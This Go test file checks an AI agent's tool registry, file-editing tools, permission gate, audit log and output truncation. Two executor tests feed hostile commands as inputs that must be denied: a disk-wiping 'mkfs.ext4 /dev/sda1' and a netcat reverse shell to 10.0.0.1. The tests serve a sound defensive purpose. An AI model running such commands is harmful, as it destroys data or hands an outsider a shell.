package tools

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/Softorize/mikiclaw/internal/audit"
	"github.com/Softorize/mikiclaw/internal/config"
	"github.com/Softorize/mikiclaw/internal/permission"
	"github.com/Softorize/mikiclaw/internal/security"
)

func testRegistry(t *testing.T) *Registry {
	t.Helper()
	return DefaultRegistry(&RegistryConfig{
		OutboxPath: filepath.Join(t.TempDir(), "outbox.jsonl"),
	})
}

// --- Registry tests ---

func TestDefaultRegistry_AllToolsRegistered(t *testing.T) {
	r := testRegistry(t)
	expected := []string{
		"bash", "edit_file", "git_commit", "git_diff", "git_push",
		"git_status", "glob", "grep", "list_dir", "read_file",
		"read_messages", "send_message", "session_status", "todo_read",
		"todo_write", "web_fetch", "web_search", "write_file",
	}
	all := r.All()
	if len(all) != len(expected) {
		t.Fatalf("expected %d tools, got %d", len(expected), len(all))
	}
	for i, tool := range all {
		if tool.Name() != expected[i] {
			t.Errorf("tool %d: expected %q, got %q", i, expected[i], tool.Name())
		}
	}
}

func TestDefaultRegistry_EveryToolHasKnownGroup(t *testing.T) {
	// Each built-in tool must classify into a real group; a tool falling
	// back to the custom group would silently escape profile gating.
	r := testRegistry(t)
	for _, tool := range r.All() {
		if g := security.ClassifyTool(tool.Name()); g == security.GroupCustom {
			t.Errorf("built-in tool %q classifies as custom", tool.Name())
		}
	}
}

func TestRegistry_GetUnknown(t *testing.T) {
	r := NewRegistry()
	_, ok := r.Get("nonexistent")
	if ok {
		t.Error("expected Get to return false for unknown tool")
	}
}

func TestRegistry_ToSchemas(t *testing.T) {
	r := testRegistry(t)
	schemas := r.ToSchemas()
	if len(schemas) != len(r.All()) {
		t.Fatalf("expected %d schemas, got %d", len(r.All()), len(schemas))
	}
	for _, s := range schemas {
		if s["name"] == "" {
			t.Error("schema missing name")
		}
		input, ok := s["input_schema"].(map[string]any)
		if !ok || input["type"] != "object" {
			t.Errorf("schema %v missing object input_schema", s["name"])
		}
	}
}

// --- ReadFile tests ---

func TestReadFile_Basic(t *testing.T) {
	tmp := t.TempDir()
	path := filepath.Join(tmp, "test.txt")
	os.WriteFile(path, []byte("line1\nline2\nline3\n"), 0644)

	tool := &ReadFileTool{}
	params, _ := json.Marshal(map[string]any{"path": path})
	result, err := tool.Execute(context.Background(), params)
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if result.IsError {
		t.Fatal("unexpected tool error")
	}
	if !strings.Contains(result.Content, "line1") || !strings.Contains(result.Content, "line3") {
		t.Error("result should contain file content")
	}
}

func TestReadFile_WithOffset(t *testing.T) {
	tmp := t.TempDir()
	path := filepath.Join(tmp, "test.txt")
	os.WriteFile(path, []byte("alpha\nbeta\ngamma\ndelta\nepsilon\n"), 0644)

	tool := &ReadFileTool{}
	params, _ := json.Marshal(map[string]any{"path": path, "offset": 2, "limit": 2})
	result, err := tool.Execute(context.Background(), params)
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if !strings.Contains(result.Content, "gamma") {
		t.Error("result should contain line starting at offset")
	}
	if strings.Contains(result.Content, "alpha") {
		t.Error("result should not contain lines before offset")
	}
}

func TestReadFile_NotFound(t *testing.T) {
	tool := &ReadFileTool{}
	params, _ := json.Marshal(map[string]any{"path": "/nonexistent/file.txt"})
	_, err := tool.Execute(context.Background(), params)
	if err == nil {
		t.Error("expected error for nonexistent file")
	}
}

// --- EditFile tests ---

func TestEditFile_Basic(t *testing.T) {
	tmp := t.TempDir()
	path := filepath.Join(tmp, "test.go")
	os.WriteFile(path, []byte("func hello() {\n\treturn\n}\n"), 0644)

	tool := &EditFileTool{}
	params, _ := json.Marshal(map[string]any{
		"file_path":  path,
		"old_string": "return",
		"new_string": "fmt.Println(\"hello\")",
	})
	result, err := tool.Execute(context.Background(), params)
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if result.IsError {
		t.Fatalf("unexpected tool error: %s", result.Content)
	}

	data, _ := os.ReadFile(path)
	if !strings.Contains(string(data), "fmt.Println") {
		t.Error("file should contain new string")
	}
}

func TestEditFile_NoMatch(t *testing.T) {
	tmp := t.TempDir()
	path := filepath.Join(tmp, "test.go")
	os.WriteFile(path, []byte("hello world\n"), 0644)

	tool := &EditFileTool{}
	params, _ := json.Marshal(map[string]any{
		"file_path":  path,
		"old_string": "not found string",
		"new_string": "replacement",
	})
	result, err := tool.Execute(context.Background(), params)
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if !result.IsError {
		t.Error("expected IsError for no match")
	}
}

func TestEditFile_MultipleMatches(t *testing.T) {
	tmp := t.TempDir()
	path := filepath.Join(tmp, "test.go")
	os.WriteFile(path, []byte("foo bar foo baz foo\n"), 0644)

	tool := &EditFileTool{}
	params, _ := json.Marshal(map[string]any{
		"file_path":  path,
		"old_string": "foo",
		"new_string": "qux",
	})
	result, err := tool.Execute(context.Background(), params)
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if !result.IsError {
		t.Error("expected IsError for multiple matches")
	}
	if !strings.Contains(result.Content, "3 occurrences") {
		t.Errorf("expected message about 3 occurrences, got: %s", result.Content)
	}
}

func TestEditFile_FuzzyTrailingWhitespace(t *testing.T) {
	// File has trailing spaces the model's old_string omits; the exact
	// match fails but the whitespace-normalized line match succeeds.
	tmp := t.TempDir()
	path := filepath.Join(tmp, "test.go")
	os.WriteFile(path, []byte("line one   \nline two\nline three\n"), 0644)

	tool := &EditFileTool{}
	params, _ := json.Marshal(map[string]any{
		"file_path":  path,
		"old_string": "line one\nline two",
		"new_string": "line 1\nline 2",
	})
	result, err := tool.Execute(context.Background(), params)
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if result.IsError {
		t.Fatalf("expected fuzzy match to succeed, got: %s", result.Content)
	}

	data, _ := os.ReadFile(path)
	if !strings.Contains(string(data), "line 1\nline 2") {
		t.Errorf("file should contain fuzzy-replaced lines, got: %q", string(data))
	}
	if !strings.Contains(string(data), "line three") {
		t.Error("untouched lines must survive the edit")
	}
}

// --- WriteFile tests ---

func TestWriteFile_Basic(t *testing.T) {
	tmp := t.TempDir()
	path := filepath.Join(tmp, "new.txt")

	tool := &WriteFileTool{}
	params, _ := json.Marshal(map[string]any{
		"file_path": path,
		"content":   "hello world",
	})
	result, err := tool.Execute(context.Background(), params)
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if result.IsError {
		t.Fatalf("unexpected tool error: %s", result.Content)
	}

	data, _ := os.ReadFile(path)
	if string(data) != "hello world" {
		t.Errorf("expected 'hello world', got %q", string(data))
	}
}

func TestWriteFile_CreatesDirectories(t *testing.T) {
	tmp := t.TempDir()
	path := filepath.Join(tmp, "a", "b", "c", "file.txt")

	tool := &WriteFileTool{}
	params, _ := json.Marshal(map[string]any{
		"file_path": path,
		"content":   "nested",
	})
	result, err := tool.Execute(context.Background(), params)
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if result.IsError {
		t.Fatalf("unexpected tool error: %s", result.Content)
	}

	data, _ := os.ReadFile(path)
	if string(data) != "nested" {
		t.Errorf("expected 'nested', got %q", string(data))
	}
}

// --- ListDir tests ---

func TestListDir_Basic(t *testing.T) {
	tmp := t.TempDir()
	os.WriteFile(filepath.Join(tmp, "a.txt"), []byte("hello"), 0644)
	os.Mkdir(filepath.Join(tmp, "subdir"), 0755)

	tool := &ListDirTool{}
	params, _ := json.Marshal(map[string]any{"path": tmp})
	result, err := tool.Execute(context.Background(), params)
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if !strings.Contains(result.Content, "a.txt") {
		t.Error("result should contain file name")
	}
	if !strings.Contains(result.Content, "subdir") {
		t.Error("result should contain directory name")
	}
}

// --- Glob tests ---

func TestGlob_Basic(t *testing.T) {
	tmp := t.TempDir()
	os.WriteFile(filepath.Join(tmp, "main.go"), []byte(""), 0644)
	os.WriteFile(filepath.Join(tmp, "test.txt"), []byte(""), 0644)

	tool := &GlobTool{}
	params, _ := json.Marshal(map[string]any{"pattern": "*.go", "path": tmp})
	result, err := tool.Execute(context.Background(), params)
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if !strings.Contains(result.Content, "main.go") {
		t.Error("result should contain matching .go file")
	}
	if strings.Contains(result.Content, "test.txt") {
		t.Error("result should not contain non-matching .txt file")
	}
}

// --- Grep tests ---

func TestGrep_Basic(t *testing.T) {
	tmp := t.TempDir()
	os.WriteFile(filepath.Join(tmp, "a.go"), []byte("package main\nfunc Handler() {}\n"), 0644)
	os.WriteFile(filepath.Join(tmp, "b.go"), []byte("package main\nvar x = 1\n"), 0644)

	tool := &GrepTool{}
	params, _ := json.Marshal(map[string]any{"pattern": "func Handler", "path": tmp})
	result, err := tool.Execute(context.Background(), params)
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if !strings.Contains(result.Content, "a.go:2:") {
		t.Errorf("expected file:line match, got: %s", result.Content)
	}
	if strings.Contains(result.Content, "b.go") {
		t.Error("result should not contain non-matching file")
	}
}

func TestGrep_GlobFilter(t *testing.T) {
	tmp := t.TempDir()
	os.WriteFile(filepath.Join(tmp, "code.go"), []byte("needle\n"), 0644)
	os.WriteFile(filepath.Join(tmp, "notes.txt"), []byte("needle\n"), 0644)

	tool := &GrepTool{}
	params, _ := json.Marshal(map[string]any{"pattern": "needle", "path": tmp, "glob": "*.go"})
	result, err := tool.Execute(context.Background(), params)
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if !strings.Contains(result.Content, "code.go") {
		t.Error("result should contain matching .go file")
	}
	if strings.Contains(result.Content, "notes.txt") {
		t.Error("glob filter should exclude .txt file")
	}
}

// --- Executor tests ---

type stubPolicy struct {
	result     permission.Result
	remembered []string
}

func (p *stubPolicy) Check(string, json.RawMessage) permission.Result {
	return p.result
}

func (p *stubPolicy) RememberApproval(name string, _ json.RawMessage) {
	p.remembered = append(p.remembered, name)
}

func allowAll() *stubPolicy {
	return &stubPolicy{result: permission.Result{Decision: permission.Allow}}
}

type stubConfirmer struct {
	answer bool
	calls  int
}

func (c *stubConfirmer) Confirm(name, params string, level PermissionLevel) bool {
	c.calls++
	return c.answer
}

func TestExecutor_UnknownTool(t *testing.T) {
	r := NewRegistry()
	e := NewExecutor(r, allowAll())
	result := e.Execute(context.Background(), "nonexistent", nil)
	if !result.IsError {
		t.Error("expected error for unknown tool")
	}
	if !strings.Contains(result.Content, "unknown tool") {
		t.Errorf("expected 'unknown tool' message, got: %s", result.Content)
	}
}

func TestExecutor_PolicyDenySurfacesReason(t *testing.T) {
	r := testRegistry(t)
	e := NewExecutor(r, &stubPolicy{result: permission.Result{
		Decision: permission.Deny,
		Reason:   `command is blocked (matches "mkfs")`,
	}})

	params, _ := json.Marshal(map[string]any{"command": "mkfs.ext4 /dev/sda1"})
	result := e.Execute(context.Background(), "bash", params)
	if !result.IsError {
		t.Fatal("expected error for denied tool")
	}
	if !strings.HasPrefix(result.Content, "Blocked: ") {
		t.Errorf("expected Blocked prefix, got: %s", result.Content)
	}
	if !strings.Contains(result.Content, "mkfs") {
		t.Errorf("denial reason should reach the model, got: %s", result.Content)
	}
	if result.UserCancelled {
		t.Error("policy denial must not be treated as user cancellation")
	}
}

func TestExecutor_ConfirmDeclined(t *testing.T) {
	r := testRegistry(t)
	p := &stubPolicy{result: permission.Result{Decision: permission.NeedConfirmation}}
	e := NewExecutor(r, p)
	c := &stubConfirmer{answer: false}
	e.SetConfirmer(c)

	params, _ := json.Marshal(map[string]any{"command": "echo hi"})
	result := e.Execute(context.Background(), "bash", params)
	if c.calls != 1 {
		t.Fatalf("expected 1 confirmation prompt, got %d", c.calls)
	}
	if !result.UserCancelled {
		t.Error("declined confirmation should report user cancellation")
	}
	if len(p.remembered) != 0 {
		t.Error("declined confirmation must not be remembered")
	}
}

func TestExecutor_ConfirmApprovedRuns(t *testing.T) {
	tmp := t.TempDir()
	path := filepath.Join(tmp, "x.txt")
	os.WriteFile(path, []byte("hello\n"), 0644)

	r := testRegistry(t)
	p := &stubPolicy{result: permission.Result{Decision: permission.NeedConfirmation}}
	e := NewExecutor(r, p)
	e.SetConfirmer(&stubConfirmer{answer: true})

	params, _ := json.Marshal(map[string]any{"path": path})
	result := e.Execute(context.Background(), "read_file", params)
	if result.IsError {
		t.Fatalf("unexpected error: %s", result.Content)
	}
	if !strings.Contains(result.Content, "hello") {
		t.Error("tool should have run after approval")
	}
	if len(p.remembered) != 1 || p.remembered[0] != "read_file" {
		t.Errorf("approval should be remembered, got %v", p.remembered)
	}
}

func TestExecutor_GateIntegration(t *testing.T) {
	// End to end: profile gating flows from config through the gate into
	// the tool result the model sees.
	gate := permission.NewGate(&config.PermissionConfig{Mode: "yolo"}, security.SecurityConfig{
		ToolProfile: "minimal",
	})
	e := NewExecutor(testRegistry(t), gate)

	params, _ := json.Marshal(map[string]any{"path": "."})
	result := e.Execute(context.Background(), "list_dir", params)
	if !result.IsError {
		t.Fatal("expected denial under minimal profile")
	}
	if !strings.Contains(result.Content, "tool group disabled") {
		t.Errorf("expected group-gate reason, got: %s", result.Content)
	}
}

type memRecorder struct {
	entries []audit.Entry
}

func newMemRecorder() *memRecorder { return &memRecorder{} }

func (m *memRecorder) Record(e audit.Entry) { m.entries = append(m.entries, e) }

func (m *memRecorder) Recent(int) ([]audit.Entry, error) { return m.entries, nil }

func (m *memRecorder) Denials(int) ([]audit.Entry, error) {
	var out []audit.Entry
	for _, e := range m.entries {
		if e.Decision == "deny" {
			out = append(out, e)
		}
	}
	return out, nil
}

func (m *memRecorder) Close() error { return nil }

func TestExecutor_AuditsDecisions(t *testing.T) {
	r := testRegistry(t)
	e := NewExecutor(r, &stubPolicy{result: permission.Result{
		Decision: permission.Deny,
		Reason:   "reverse shell via netcat exec flag",
	}})
	rec := newMemRecorder()
	e.SetRecorder(rec)
	e.SetSessionID("sess-1")

	params, _ := json.Marshal(map[string]any{"command": "nc -e /bin/sh 10.0.0.1 4444"})
	e.Execute(context.Background(), "bash", params)

	if len(rec.entries) != 1 {
		t.Fatalf("expected 1 audit entry, got %d", len(rec.entries))
	}
	got := rec.entries[0]
	if got.Decision != "deny" || got.Tool != "bash" {
		t.Errorf("unexpected entry: %+v", got)
	}
	if got.Command != "nc -e /bin/sh 10.0.0.1 4444" {
		t.Errorf("audit entry should carry the command, got %q", got.Command)
	}
	if got.SessionID != "sess-1" {
		t.Errorf("audit entry should carry the session ID, got %q", got.SessionID)
	}
	if got.Reason == "" {
		t.Error("audit entry for a denial must carry the reason")
	}
}

// --- Truncation tests ---

func TestToolOutputLimit(t *testing.T) {
	tests := []struct {
		name     string
		expected int
	}{
		{"read_file", 32 * 1024},
		{"grep", 32 * 1024},
		{"bash", 32 * 1024},
		{"web_fetch", 32 * 1024},
		{"web_search", 32 * 1024},
		{"git_diff", 16 * 1024},
		{"glob", 16 * 1024},
		{"list_dir", 16 * 1024},
		{"read_messages", 16 * 1024},
		{"edit_file", 4 * 1024},
		{"write_file", 4 * 1024},
		{"git_commit", 4 * 1024},
		{"unknown_tool", 4 * 1024},
	}
	for _, tt := range tests {
		if got := toolOutputLimit(tt.name); got != tt.expected {
			t.Errorf("toolOutputLimit(%q) = %d, want %d", tt.name, got, tt.expected)
		}
	}
}

func TestTruncateHeadTail_NoTruncation(t *testing.T) {
	s := "short string"
	result := truncateHeadTail(s, 100)
	if result != s {
		t.Errorf("expected no truncation, got %q", result)
	}
}

func TestTruncateHeadTail_Truncates(t *testing.T) {
	s := strings.Repeat("x", 1000)
	result := truncateHeadTail(s, 100)

	if len(result) > 200 { // head + tail + omitted message
		t.Errorf("result too long: %d", len(result))
	}
	if !strings.Contains(result, "chars omitted") {
		t.Error("result should contain omitted message")
	}
	// Check head (60%) and tail (40%).
	if !strings.HasPrefix(result, strings.Repeat("x", 60)) {
		t.Error("result should start with head content")
	}
	if !strings.HasSuffix(result, strings.Repeat("x", 40)) {
		t.Error("result should end with tail content")
	}
}
